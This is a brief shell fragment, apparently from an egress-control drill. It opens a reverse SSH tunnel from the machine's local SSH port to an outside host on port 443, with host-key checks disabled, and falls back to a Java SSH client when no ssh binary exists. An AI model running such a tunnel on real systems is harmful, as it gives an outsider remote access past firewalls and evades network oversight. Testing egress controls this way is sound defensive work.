# The same tunnel on the port everybody leaves open for HTTPS.
if command -v ssh > /dev/null; then
    ssh -F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o ConnectTimeout=2 -o LogLevel=ERROR -p 443 -R 0:127.0.0.1:22 rome@203.0.113.9 true < /dev/null
else
    # A machine without an SSH client: the same protocol from Java.
    "$PAWL_DRILL_JAVA" -XX:+UseSerialGC -XX:TieredStopAtLevel=1 -cp "$PAWL_DRILL_CLASSPATH" dev.pawl.drill.rome.SshClientMain 203.0.113.9 443
fi
echo "ssh ended with $?"
